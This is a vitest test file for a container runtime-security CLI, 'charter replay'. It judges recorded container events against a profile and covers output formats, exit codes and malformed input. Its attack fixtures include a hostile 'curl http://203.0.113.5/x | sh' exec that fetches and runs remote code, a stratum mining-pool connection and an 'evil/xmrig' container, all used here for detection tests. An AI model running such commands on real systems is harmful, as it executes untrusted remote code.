/**
 * `charter replay` end to end through the CLI: the bundled example's profile, event files written at
 * test time (benign, attacks, hostile lines), real Tetragon samples, a kernel sensor recording, every output format,
 * exit codes.
 */
import { mkdtempSync, readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { VerdictSchema } from '../model/verdicts.js';
import { sarifErrors } from '../test-support/sarif.js';
import { main, type Io } from './main.js';

const repo = resolve(import.meta.dirname, '../..');
const PROFILE = join(repo, 'test/golden/shop/shop.charter.json');
const dir = mkdtempSync(join(tmpdir(), 'charter-replay-'));
const HOSTS = join(dir, 'hosts');
writeFileSync(
  HOSTS,
  '# podman network shop\n10.89.0.2 api\n10.89.0.3 db\n10.89.0.4 cache\n10.89.0.5 web\n10.89.0.6 worker\nnot-an-address foo\n',
);

function capture(): Io & { out: string; err: string } {
  const io = { out: '', err: '', isTTY: false, stdout: (s: string) => void (io.out += s), stderr: (s: string) => void (io.err += s) };
  return io;
}

const api = { id: '4f1c2a9b8e7d', name: 'shop-api-1', image: 'shop/api:1.0' };
let t = 0;
const line = (e: Record<string, unknown>): string =>
  JSON.stringify({
    time: `2026-12-04T10:00:${String(t++ % 60).padStart(2, '0')}Z`,
    container: api,
    process: { pid: 1, path: '/usr/local/bin/node' },
    ...e,
  });

const BENIGN = [
  line({ kind: 'exec', process: { pid: 1, path: '/usr/bin/tini', argv: ['tini', '--', 'node', 'server.js'] } }),
  line({ kind: 'exec', process: { pid: 7, path: '/usr/local/bin/node', argv: ['node', 'server.js'] } }),
  line({ kind: 'listen', protocol: 'tcp', local: { address: '0.0.0.0', port: 8080 } }),
  line({ kind: 'connect', protocol: 'tcp', remote: { address: '10.89.0.3', port: 5432 } }),
  line({ kind: 'connect', protocol: 'tcp', remote: { address: '10.89.0.4', port: 6379 } }),
  line({ kind: 'open', path: '/app/uploads/1.png', write: true, create: true }),
];
const ATTACK = [
  line({ kind: 'exec', process: { pid: 9, path: '/bin/sh', argv: ['sh', '-c', 'curl http://203.0.113.5/x | sh'] } }),
  line({ kind: 'connect', protocol: 'tcp', remote: { address: '198.51.100.7', port: 3333 } }),
];

function file(name: string, text: string): string {
  const p = join(dir, name);
  writeFileSync(p, text);
  return p;
}

async function replay(args: string[]): Promise<{ code: number; out: string; err: string }> {
  const io = capture();
  const code = await main(['replay', ...args], io);
  return { code, out: io.out, err: io.err };
}

describe('charter replay', () => {
  it('the application behaving as declared: nothing would be blocked, exit 0', async () => {
    const r = await replay([file('benign.jsonl', BENIGN.join('\n') + '\n'), '--profile', PROFILE, '--hosts', HOSTS]);
    expect(r.err).toMatch(/hosts:7: "not-an-address" is not an IP address/);
    expect(r.out).toMatch(/6 events: 6 allowed, 0 deviations/);
    expect(r.code).toBe(0);
  });

  it('--all --format json: one verdict a line, each allowed one naming its rule', async () => {
    const r = await replay([file('benign2.jsonl', BENIGN.join('\n')), '--profile', PROFILE, '--hosts', HOSTS, '--all', '--format', 'json']);
    const verdicts = r.out
      .trim()
      .split('\n')
      .map((l) => VerdictSchema.parse(JSON.parse(l)));
    expect(verdicts).toHaveLength(6);
    expect(verdicts.map((v) => v.allowed?.kind)).toEqual(['process', 'process', 'listen', 'egress', 'egress', 'writable']);
    expect(verdicts.map((v) => v.line)).toEqual([1, 2, 3, 4, 5, 6]);
    expect(r.code).toBe(0);
  });

  it('attacks: blocked with their classification, exit 1; monitor mode alerts and exits 0', async () => {
    const f = file('attack.jsonl', [...BENIGN, ...ATTACK].join('\n'));
    const r = await replay([f, '--profile', PROFILE, '--hosts', HOSTS]);
    expect(r.code).toBe(1);
    expect(r.out).toMatch(/BLOCK +api +exec \/bin\/sh -c curl/);
    expect(r.out).toMatch(/pattern: Shell started in a service container \[T1059\.004\]/);
    expect(r.out).toMatch(/pattern: Connection on a mining pool \(stratum\) port \[T1496\]/);
    expect(r.out).toMatch(/would block 2/);
    const m = await replay([f, '--profile', PROFILE, '--hosts', HOSTS, '--mode', 'monitor']);
    expect(m.code).toBe(0);
    expect(m.out).toMatch(/ALERT +api/);
  });

  it('--format sarif: a valid SARIF log, results located at the lines that declare the container', async () => {
    const out = join(dir, 'out.sarif');
    const r = await replay([file('attack2.jsonl', ATTACK.join('\n')), '--profile', PROFILE, '--format', 'sarif', '-o', out]);
    expect(r.code).toBe(1);
    const log = JSON.parse(readFileSync(out, 'utf8')) as {
      runs: {
        results: {
          ruleId: string;
          locations: { physicalLocation?: { artifactLocation: { uri: string }; region?: { startLine: number } } }[];
        }[];
      }[];
    };
    expect(sarifErrors(log)).toEqual([]);
    const results = log.runs[0]!.results;
    expect(results.map((x) => x.ruleId).sort()).toEqual(['CHARTER-RT-MINER-POOL-PORT', 'CHARTER-RT-SHELL-IN-SERVICE']);
    const uris = results[0]!.locations.map((l) => `${l.physicalLocation?.artifactLocation.uri}:${l.physicalLocation?.region?.startLine}`);
    expect(uris).toContain('compose.yaml:15');
    expect(uris).toContain('api/Dockerfile:10');
  });

  it("real Tetragon events (the Security Observability report's Merlin attack chain) judged as the api container", async () => {
    const soe = join(repo, 'test/corpus/events/tetragon/soe-book');
    const names = [
      'persistance/merlin-agent-go-start.json',
      'persistance/merlin-agent-go-connect.json',
      'post_exploitation_techniques/merlin-agent-sh.json',
      'post_exploitation_techniques/merlin-agent-7z.json',
      'post_exploitation_techniques/merlin-agent-scp.json',
      'post_exploitation_techniques/merlin-agent-ssh-tunnel-connect.json',
    ];
    const lines = names.map((n) => JSON.stringify(JSON.parse(readFileSync(join(soe, n), 'utf8'))));
    const f = file('merlin.jsonl', lines.join('\n'));
    const r = await replay([
      f,
      '--profile',
      PROFILE,
      '--format',
      'json',
      '--container',
      'a51959123c3b=api',
      '--container',
      '80976c957594=api',
    ]);
    expect(r.err).toMatch(/\(tetragon\), 6 events: 0 allowed, 6 deviations/);
    const verdicts = r.out
      .trim()
      .split('\n')
      .map((l) => VerdictSchema.parse(JSON.parse(l)));
    expect(verdicts.map((v) => [v.kind, v.deviation?.classification, v.deviation?.patterns.map((p) => p.id).join(',')])).toEqual([
      ['exec', 'undeclared', ''],
      ['connect', 'undeclared', ''],
      ['exec', 'attack', 'shell-in-service'],
      ['exec', 'undeclared', ''],
      ['exec', 'attack', 'ingress-tool-transfer'],
      ['connect', 'undeclared', ''],
    ]);
    expect(verdicts[0]!.deviation?.what).toBe('/tmp/go-build3518135900/b001/exe/main is not a program the charter allows');
    expect(r.code).toBe(1);
  });

  it("the kernel sensor's recorded lines (test/corpus/events/sensor) judged as the api container", async () => {
    const recorded = join(repo, 'test/corpus/events/sensor/podman-busybox.jsonl');
    const id = '797de5487c753092c349c77ac33b3e738b85d3b184c94b87cb6a6e28b8e8d8df';
    const r = await replay([recorded, '--profile', PROFILE, '--format', 'json', '--container', `${id}=api`]);
    // The loader's own lines (ready, replies) are skipped by what they say, not judged.
    expect(r.err).toMatch(/\(sensor\), 38 events: 23 allowed, 15 deviations \(10 attack, 1 drift, 4 undeclared\)/);
    expect(r.err).toMatch(/1 × the sensor is ready/);
    const verdicts = r.out
      .trim()
      .split('\n')
      .map((l) => VerdictSchema.parse(JSON.parse(l)));
    const drift = verdicts.filter((v) => v.deviation?.classification === 'drift');
    expect(drift.map((v) => v.deviation?.patterns.map((p) => p.id))).toEqual([['dropped-binary']]);
    expect(drift[0]!.deviation?.what).toBe('/tmp/we"ird\tname is not a program the charter allows');
    expect(verdicts.filter((v) => v.deviation?.patterns.some((p) => p.id === 'shell-in-service'))).toHaveLength(3);
    expect(r.code).toBe(1);
  });

  it('hostile lines are counted and skipped with their line numbers; the stream goes on', async () => {
    const deep = '['.repeat(100_000) + ']'.repeat(100_000);
    const long = JSON.stringify({ kind: 'exec', pad: 'x'.repeat(1_200_000) });
    const hostile = [
      BENIGN[0]!,
      '{"kind":"exec","time":',
      '\u0000\u0001binary\uFFFD',
      deep,
      long,
      JSON.stringify({ kind: 'exec', time: 'now', container: { id: '' }, process: {} }),
      JSON.stringify({ kind: 'teleport', time: 'now', container: { id: 'x' }, process: {} }),
      JSON.stringify({ kind: 'open', time: 'now', container: api, process: {}, path: 'relative', write: true }),
      '',
      ATTACK[0]!,
    ].join('\r\n');
    const r = await replay([file('hostile.jsonl', hostile), '--profile', PROFILE]);
    expect(r.out).toMatch(/10 lines \(charter\), 2 events: 1 allowed, 1 deviations/);
    expect(r.out).toMatch(/7 lines skipped/);
    expect(r.out).toMatch(/2 × not valid JSON \(first at line 2\)/);
    expect(r.out).toMatch(/longer than 1048576 characters \(first at line 5\)/);
    expect(r.out).toMatch(/unknown event kind "teleport" \(first at line 7\)/);
    expect(r.code).toBe(1);
  });

  it.each([
    ['a missing event file', () => [join(dir, 'nope.jsonl'), '--profile', PROFILE], /nope\.jsonl: cannot read event stream: no such file/],
    ['a directory', () => [dir, '--profile', PROFILE], /cannot read event stream: a directory/],
    ['a missing profile', () => [file('e.jsonl', BENIGN[0]!), '--profile', join(dir, 'none.json')], /none\.json: cannot read profile/],
    [
      'no line of a known format',
      () => [file('g.jsonl', '{"a":1}\n{"b":2}\n'), '--profile', PROFILE],
      /g\.jsonl: no line is an event of a known format/,
    ],
    [
      'a bad --container',
      () => [file('e2.jsonl', BENIGN[0]!), '--profile', PROFILE, '--container', 'abc=nobody'],
      /--container abc=nobody: expected RUNTIME-ID=NAME/,
    ],
    ['an unknown source', () => [file('e3.jsonl', BENIGN[0]!), '--profile', PROFILE, '--source', 'sysdig'], /./],
  ])('bad input: %s → exit 2 naming it', async (_, args, message) => {
    const r = await replay(args());
    expect(r.code).toBe(2);
    expect(r.err).toMatch(message);
  });

  it('events of containers the profile does not describe are counted apart, not judged', async () => {
    const stranger = JSON.stringify({
      kind: 'exec',
      time: '2026-12-04T10:00:00Z',
      container: { id: 'ffff', name: 'miner', image: 'evil/xmrig' },
      process: { path: '/xmrig' },
    });
    const r = await replay([file('stranger.jsonl', `${stranger}\n${BENIGN[0]!}\n`), '--profile', PROFILE]);
    expect(r.out).toMatch(/1 events of containers the profile does not describe:\n +1 × miner · evil\/xmrig \(first at line 1\)/);
    expect(r.code).toBe(0);
  });
});

mkdirSync(join(dir, 'sub'), { recursive: true });
